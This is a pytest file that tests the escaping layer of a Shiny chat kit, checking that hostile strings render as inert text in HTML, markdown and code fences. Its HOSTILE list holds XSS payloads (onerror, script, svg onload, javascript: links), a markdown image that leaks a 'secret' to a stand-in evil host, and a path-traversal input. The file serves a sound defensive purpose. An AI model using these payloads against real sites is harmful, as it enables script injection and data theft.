"""The kit's escaping (``deputy_shiny.shiny._escape``) and where it is used: every string
handed to the browser stays text where shinychat puts it.

Markdown is checked with a real CommonMark renderer (markdown-it-py, which Shiny
depends on) with raw HTML on, as shinychat's renderer has it: an escaped string must
render as exactly its own text, with no element but the paragraph (and line breaks).
"""

from __future__ import annotations

import random
from html.parser import HTMLParser
from typing import Any

import pytest
from markdown_it import MarkdownIt

from deputy_shiny.messages import ContentText, ContentToolRequest, ContentToolResult, Turn
from deputy_shiny.shiny._escape import code_text, html_text, markdown_text
from deputy_shiny.shiny._render import note_chunk, tool_request_block, tool_result_block
from deputy_shiny.shiny._transcript import transcript_messages

HOSTILE = [
    '<img src=x onerror="window.__xss=1">',
    "<script>window.__xss=2</script>",
    '"><svg onload=alert(1)>',
    "'><iframe srcdoc='<script>parent.x=1</script>'>",
    '<a href="javascript:alert(1)">x</a>',
    "[link](javascript:alert(1)) ![img](https://evil.example/?q=secret)",
    "<https://evil.example> &lt;img src=x onerror=alert(1)&gt; &#60;b&#62;",
    "*em* __strong__ `code` ~~del~~ | a | b |",
    "# heading\n- item\n1. item\n> quote\n    indented code\n---\n===",
    "````````\n<img src=x onerror=alert(1)>\n````````",
    "back\\slash \\<b> trailing\\",
    "&amp; &quot; &#x27; \u200b \u2028 tab\there",
]


def _random_strings(count: int) -> list[str]:
    """Deterministic noise made of the characters that matter to HTML and markdown."""
    rng = random.Random(20260)
    alphabet = "<>&\"'`*_[]()!#\\/:;=-+|~.\n\r\t abcxyz0123456789jvs"
    return ["".join(rng.choice(alphabet) for _ in range(rng.randint(1, 60))) for _ in range(count)]


CASES = HOSTILE + _random_strings(300)


class _Elements(HTMLParser):
    """The start tags and the text of an HTML fragment."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _parse(fragment: str) -> _Elements:
    parser = _Elements()
    parser.feed(fragment)
    parser.close()
    return parser


# -------------------------------------------------------------------------- html_text


@pytest.mark.parametrize("text", CASES)
def test_html_text_forms_no_element_and_shows_the_text(text: str) -> None:
    # As shinychat uses a title: inside an element, and (for safety) inside an attribute.
    parsed = _parse(f'<span title="{html_text(text)}">{html_text(text)}</span>')
    assert parsed.tags == [("span", [("title", text)])]
    assert "".join(parsed.text) == text


def test_html_text_escapes_quotes_for_attributes() -> None:
    assert html_text("a\"b'c<d>&") == "a&quot;b&#x27;c&lt;d&gt;&amp;"


# ---------------------------------------------------------------------- markdown_text

_MD = MarkdownIt("commonmark", {"html": True})


def _rendered_text(markdown: str) -> tuple[list[str], str]:
    parsed = _parse(_MD.render(markdown))
    return [tag for tag, _ in parsed.tags], "".join(parsed.text).strip()


def _shown(text: str) -> str:
    """What the text looks like as one paragraph: its lines, stripped, blank ones gone."""
    return "\n".join(line.strip() for line in text.splitlines() if line.strip())


@pytest.mark.parametrize("text", CASES)
def test_markdown_text_renders_as_exactly_the_text(text: str) -> None:
    tags, shown = _rendered_text(markdown_text(text))
    assert set(tags) <= {"p", "br"}, tags
    assert shown == _shown(text)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_note_is_one_inert_quote(text: str) -> None:
    tags, shown = _rendered_text("Some reply." + note_chunk(text))
    assert set(tags) <= {"p", "br", "blockquote"}, tags
    assert shown.endswith(_shown(text))


# -------------------------------------------------------------------------- code_text


def _fenced(value: str) -> str:
    # Exactly how shinychat shows a "code" tool result (its `al` helper).
    return f"````````text\n{value}\n````````"


@pytest.mark.parametrize("text", CASES)
def test_tool_output_stays_inside_one_code_block(text: str) -> None:
    value = code_text(text)
    tokens = [t for t in _MD.parse(_fenced(value)) if t.type != "text"]
    assert [t.type for t in tokens] == ["fence"]
    assert tokens[0].content == (value + "\n").replace("\r\n", "\n").replace("\r", "\n")
    # Only zero-width spaces were added.
    assert value.replace("\u200b", "") == text.replace("\u200b", "")


def test_code_text_changes_only_lines_that_would_close_the_fence() -> None:
    assert code_text("```\nx\n```") == "```\nx\n```"  # shorter fences are content
    assert code_text("a ```````` b") == "a ```````` b"  # not alone on its line
    assert code_text("    ````````") == "    ````````"  # indented 4: content already
    broken = code_text("x\r````````  \n  `````````")
    assert broken == "x\r`\u200b```````  \n  `\u200b````````"


def test_the_old_fence_break_is_real() -> None:
    # Without code_text, such output escapes its block and becomes markup.
    tokens = _MD.parse(_fenced("````````\n<img src=x onerror=alert(1)>"))
    assert "html_block" in [t.type for t in tokens]


# ---------------------------------------------------------------- shinychat's blocks


def _block(message: Any) -> dict[str, Any]:
    return dict(message.blocks[0])


def test_card_titles_are_escaped_and_values_kept() -> None:
    payload = HOSTILE[0]
    title = f"Denied: {payload}"
    request = _block(tool_request_block("c", payload, {"path": payload}, title=title))
    result = _block(tool_result_block("c", payload, payload, is_error=True, title="Denied: <b>"))
    assert request["title"] == html_text(f"Denied: {payload}")
    assert result["title"] == "Denied: &lt;b&gt;"
    # The tool name and the arguments are text in shinychat; they go as they are.
    assert request["tool_name"] == payload and '"path": "<img' in request["arguments"]
    assert result["value"] == payload and result["value_type"] == "code"


def test_a_rebuilt_transcript_escapes_a_denial_quoting_model_input() -> None:
    payload = "../" + HOSTILE[0]
    denial = f"Denied: Path {payload!r} uses '..' to leave its directory."
    turns = [
        Turn(role="user", contents=[ContentText(text="read it")]),
        Turn(
            role="assistant",
            contents=[
                ContentToolRequest(id="call_1", name="read_file", arguments={"path": payload})
            ],
        ),
        Turn(
            role="user",
            contents=[
                ContentToolResult(call_id="call_1", name="read_file", output=denial, is_error=True)
            ],
        ),
    ]
    _, assistant = transcript_messages(turns)
    request, result = (_block(chunk) for chunk in assistant.chunks)
    for block in (request, result):
        assert block["title"] == html_text(denial)
        assert "<img" not in block["title"]
